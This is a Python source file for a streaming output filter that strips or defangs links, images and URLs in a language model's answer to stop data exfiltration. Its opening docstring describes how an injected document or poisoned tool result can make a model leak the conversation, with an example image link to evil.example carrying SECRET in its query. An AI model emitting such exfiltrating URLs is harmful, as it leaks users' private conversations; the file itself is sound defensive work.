"""A streaming neutraliser for links and images in a model's answer.

A manipulated model (an injected document, a poisoned tool result) can leak the conversation by
writing ``![x](https://evil.example/p.png?d=SECRET)``: the reader's browser fetches the image as
soon as it is shown, no click needed. ``LinkGuard`` takes the answer as it streams, in deltas
cut anywhere, and lets through only what can no longer become such a URL:

- images (Markdown, raw HTML) that would load from a host outside the allowlist become a
  marker; so does any URL with a scheme other than http(s);
- links to such hosts keep their text and lose the URL (the host is named in the marker);
- reference definitions to such hosts are removed, so ``![x][ref]`` has nothing to load;
- autolinks, and bare URLs whose query carries data, are defanged: ``hxxps://host/…``.

Everything else passes byte for byte. Text that may still become a link is held back, never
more than ``MAX_HOLD`` characters: past that, the construct is decided on what has arrived, in
the cautious direction. The markers use 〔〕, never ``[]``: a marker must not itself become
link text when the model writes ``!`` before it or ``(url)`` after it. A host named in a marker
is quoted (「」 “”), so that GFM, which links ``www.`` only after whitespace, leaves it text.

Parsing follows CommonMark and GFM where they are clear, but renderers differ, so the guard
never skips text it has judged safe: only a replaced construct is stepped over, and every
character that stays is scanned like any other. Where a renderer could read the text another
way (a code span holding ``]``), a second check catches the URL anyway: every ``](`` and ``]:``
is judged, whether or not its ``[`` was recognised. Code blocks are not exempt.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from enum import Enum

from mamori.guard.output.html_tags import Incomplete, judge_tag, scan_tag
from mamori.guard.output.markdown import (
    NOT_A_DEST,
    definition_dest,
    has_query,
    inline_dest,
    match_bracket,
)
from mamori.guard.output.urls import HostPolicy, Reason, Verdict

# How much text may be held back waiting to see whether it becomes a link.
MAX_HOLD = 2048

# Where a link, an image, a tag or a URL can begin.
_CANDIDATE = re.compile(r"!\[|[\[\]<]|(?i:https?://|www\.)")
# A delta ending in one of these may be the start of a candidate cut by the stream.
_PARTIAL_TAILS = frozenset(
    {"!", "h", "ht", "htt", "http", "https", "http:", "https:", "http:/", "https:/", "w", "ww"}
    | {"www"}
)
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}):([^\s<>]*)(>?)")
_AUTOLINK_START = re.compile(r"<[A-Za-z][A-Za-z0-9+.-]{0,31}\Z")
# A bare URL runs to whitespace or "<" (GFM). It is judged up to whitespace. It is rewritten
# only up to the first bracket or non-URL character, so brackets are still read as Markdown and
# Japanese text written straight after the URL is kept.
_URL_EXTENT = re.compile(r"\S*")
# A construct inside the URL's run may be replaced by a marker, which would join the URL to the
# text after the construct (and to a query in it): such a URL is defanged, not passed.
_JOINABLE = re.compile(r"[<\[\]]")
_URL_CHARS = re.compile(r"[A-Za-z0-9\-._~:/?#@!$&'()*+,;=%]*")

_MARKERS = {
    "ja": {
        "image": "〔外部画像を削除しました〕",
        "link": "〔リンクを削除しました〕",
        "link_host": "〔外部リンク「{host}」を削除しました〕",
        "html": "〔HTMLタグを削除しました〕",
    },
    "en": {
        "image": "〔external image removed〕",
        "link": "〔link removed〕",
        "link_host": "〔external link “{host}” removed〕",
        "html": "〔HTML tag removed〕",
    },
}


class _Mode(Enum):
    STREAM = "stream"  # more text may come: hold what is unfinished
    FORCE = "force"  # the hold is full: decide now, cautiously
    FINAL = "final"  # nothing more will come


class _Hold:
    """The construct at this position is unfinished: hold the text from here."""


_HOLD = _Hold()
_Result = tuple[str, int] | None | _Hold


@dataclass(frozen=True, slots=True)
class Removal:
    kind: str  # image | link | reference | autolink | url | html
    host: str  # ASCII host, '' when there was none to read (javascript:, relative image)
    reason: Reason


def marker_locale(locale: str) -> str:
    return "en" if locale.lower().startswith("en") else "ja"


class LinkGuard:
    """One stream's neutraliser: ``feed`` each delta, ``flush`` at the end.

    ``removed`` lists every neutralised URL, in order, for decisions and the audit record.
    """

    def __init__(self, allowed_hosts: frozenset[str] | HostPolicy, locale: str = "ja") -> None:
        self.policy = (
            allowed_hosts if isinstance(allowed_hosts, HostPolicy) else HostPolicy(allowed_hosts)
        )
        self.markers = _MARKERS[marker_locale(locale)]
        self.removed: list[Removal] = []
        self._held = ""

    @property
    def holding(self) -> int:
        return len(self._held)

    def feed(self, text: str) -> str:
        if not self._held:
            # The common delta: nothing held, nothing that could start a link.
            if _CANDIDATE.search(text) is None and _partial_tail(text, 0) == len(text):
                return text
            buf = text
        else:
            buf = self._held + text
        out, used = self._scan(buf, _Mode.STREAM)
        held = buf[used:]
        parts = [out]
        while len(held) > MAX_HOLD:
            # Decide the construct at the start of the hold now; the rest streams on.
            more, used = self._scan(held, _Mode.STREAM, force_at=0)
            if used == 0:  # cannot happen (a forced construct always decides), but never spin
                more, used = held[0], 1
            parts.append(more)
            held = held[used:]
        self._held = held
        return "".join(parts)

    def flush(self) -> str:
        held, self._held = self._held, ""
        out, _ = self._scan(held, _Mode.FINAL)
        return out

    # --- the scanner ---------------------------------------------------------------------------

    def _scan(self, buf: str, mode: _Mode, force_at: int = -1) -> tuple[str, int]:
        """What of ``buf`` can be emitted, and how much of ``buf`` that used."""
        out: list[str] = []
        i, n = 0, len(buf)
        while i < n:
            m = _CANDIDATE.search(buf, i)
            if m is None:
                end = _partial_tail(buf, i) if mode is _Mode.STREAM else n
                out.append(buf[i:end])
                i = end
                break
            start = m.start()
            out.append(buf[i:start])
            here = _Mode.FORCE if start == force_at else mode
            result = self._construct(buf, start, m.group(), here)
            if isinstance(result, _Hold):
                i = start
                break
            if result is None:
                out.append(buf[start])
                i = start + 1
            else:
                out.append(result[0])
                i = result[1]
        return "".join(out), i

    def _complete(self, text: str) -> str:
        return self._scan(text, _Mode.FINAL)[0]

    def _construct(self, buf: str, start: int, opener: str, mode: _Mode) -> _Result:
        if opener == "![":
            return self._bracketed(buf, start, start + 1, mode)
        if opener == "[":
            return self._bracketed(buf, start, None, mode)
        if opener == "]":
            return self._stray_close(buf, start, mode)
        if opener == "<":
            return self._angle(buf, start, mode)
        return self._bare_url(buf, start, mode)

    def _bracketed(self, buf: str, start: int, image_at: int | None, mode: _Mode) -> _Result:
        """``![alt](url)``, ``[text](url)`` or ``[label]: url`` starting at ``start``."""
        opening = start if image_at is None else image_at
        close = match_bracket(buf, opening)
        if close is None:
            return _HOLD if mode is _Mode.STREAM else None
        if close < 0:
            return None
        after = close + 1
        if after == len(buf):
            return _HOLD if mode is _Mode.STREAM else None
        follower = buf[after]
        if follower == "(":
            dest = inline_dest(buf, after)
        elif follower == ":" and image_at is None:
            dest = definition_dest(buf, after + 1)
        else:
            return None
        if dest is NOT_A_DEST:
            return None
        if not dest.complete and mode is _Mode.STREAM:
            return _HOLD
        image = image_at is not None
        final = dest.complete or mode is _Mode.FINAL
        verdict = self.policy.judge(dest.url, loads=image, complete=final)
        if verdict.safe:
            return None  # read on: every character of what stays is looked at once more
        if image:
            return self._remove("image", verdict, self.markers["image"]), dest.end
        marker = self._link_marker(verdict)
        if follower == ":":
            return self._remove("reference", verdict, marker), dest.end
        text = self._complete(buf[opening + 1 : close])
        return text + self._remove("link", verdict, marker), dest.end

    def _stray_close(self, buf: str, start: int, mode: _Mode) -> _Result:
        """A ``](`` or ``]:`` whose ``[`` was not read as a link: its URL is judged anyway."""
        if start + 1 == len(buf):
            return _HOLD if mode is _Mode.STREAM else None
        follower = buf[start + 1]
        if follower == "(":
            dest = inline_dest(buf, start + 1)
        elif follower == ":":
            dest = definition_dest(buf, start + 2)
        else:
            return None
        if dest is NOT_A_DEST:
            return None
        if not dest.complete and mode is _Mode.STREAM:
            return _HOLD
        # Image or link is not known here. A relative URL stays: it can only reach the
        # reader's own site, which is no exfiltration.
        final = dest.complete or mode is _Mode.FINAL
        verdict = self.policy.judge(dest.url, loads=False, complete=final)
        if verdict.safe:
            return None
        return "]" + self._remove("link", verdict, self._link_marker(verdict)), dest.end

    def _angle(self, buf: str, start: int, mode: _Mode) -> _Result:
        auto = _AUTOLINK.match(buf, start)
        if auto is not None:
            if auto.group(3):
                verdict = self.policy.judge(auto.group(1) + ":" + auto.group(2), loads=False)
                if verdict.safe:
                    return None
                if verdict.reason is Reason.HOST:
                    defanged = _defang(auto.group(1), verdict.host)
                    return self._remove("autolink", verdict, defanged), auto.end()
                return self._remove("autolink", verdict, self.markers["link"]), auto.end()
            if auto.end() == len(buf):
                return _HOLD if mode is _Mode.STREAM else self._escaped_angle(mode, start)
            if buf[auto.end()] == "<":
                # "<javascript:<b>x>": a marker put in place of the inner tag would turn it
                # into an autolink, so this "<" is written as an entity.
                return "&lt;", start + 1
        elif mode is _Mode.STREAM and _AUTOLINK_START.match(buf, start):
            return _HOLD  # "<ok.example" may yet become "<ok.example:...>"
        tag = scan_tag(buf, start)
        if isinstance(tag, Incomplete):
            return _HOLD if mode is _Mode.STREAM else self._escaped_angle(mode, start)
        if tag is None:
            return None
        judged = judge_tag(tag, self.policy)
        if judged is None:
            # Read on inside it: a renderer stricter than this lenient reading may take the
            # "tag" for text, and a URL in it for a link.
            return None
        if judged.kind == "html" and tag.closing:
            return self._remove("html", judged.verdict, ""), tag.end
        if judged.kind == "link":
            marker = self._link_marker(judged.verdict)
        else:
            marker = self.markers[judged.kind]
        return self._remove(judged.kind, judged.verdict, marker), tag.end

    def _escaped_angle(self, mode: _Mode, start: int) -> _Result:
        # At the very end an unfinished tag is harmless text; when the hold is full it may
        # still be finished by what comes, so its "<" is written as an entity.
        return None if mode is _Mode.FINAL else ("&lt;", start + 1)

    def _bare_url(self, buf: str, start: int, mode: _Mode) -> _Result:
        extent_end = _URL_EXTENT.match(buf, start).end()  # type: ignore[union-attr]
        if extent_end == len(buf) and mode is _Mode.STREAM:
            return _HOLD
        extent = buf[start:extent_end]
        # Rewritten only up to a bracket (read as Markdown next) or the end of URL characters.
        stop = start + _URL_CHARS.match(extent).end()  # type: ignore[union-attr]
        for bracket in "[]":
            found = buf.find(bracket, start, stop)
            if found != -1:
                stop = found
        www = extent[:4].lower() == "www."
        scheme = "http" if www else extent.split(":", 1)[0]
        url = "http://" + extent if www else extent
        may_grow = extent_end == len(buf) and mode is not _Mode.FINAL
        verdict = self.policy.judge(url, loads=False, complete=not may_grow)
        risky = may_grow or has_query(extent) or _JOINABLE.search(extent) is not None
        if verdict.safe or not risky:
            return buf[start:stop], stop
        return self._remove("url", verdict, _defang(scheme, verdict.host)), stop

    def _link_marker(self, verdict: Verdict) -> str:
        if verdict.host:
            return self.markers["link_host"].format(host=verdict.host)
        return self.markers["link"]

    def _remove(self, kind: str, verdict: Verdict, replacement: str) -> str:
        self.removed.append(Removal(kind, verdict.host, verdict.reason))
        return replacement


def _defang(scheme: str, host: str) -> str:
    scheme = "hxxps" if scheme.lower() == "https" else "hxxp"
    return f"{scheme}://{host}/…" if host else f"{scheme}://…"


def _partial_tail(buf: str, start: int) -> int:
    """Where a suffix of ``buf[start:]`` that may begin a candidate starts (len(buf) if none)."""
    n = len(buf)
    for size in range(min(7, n - start), 0, -1):
        if buf[n - size :].lower() in _PARTIAL_TAILS:
            return n - size
    return n
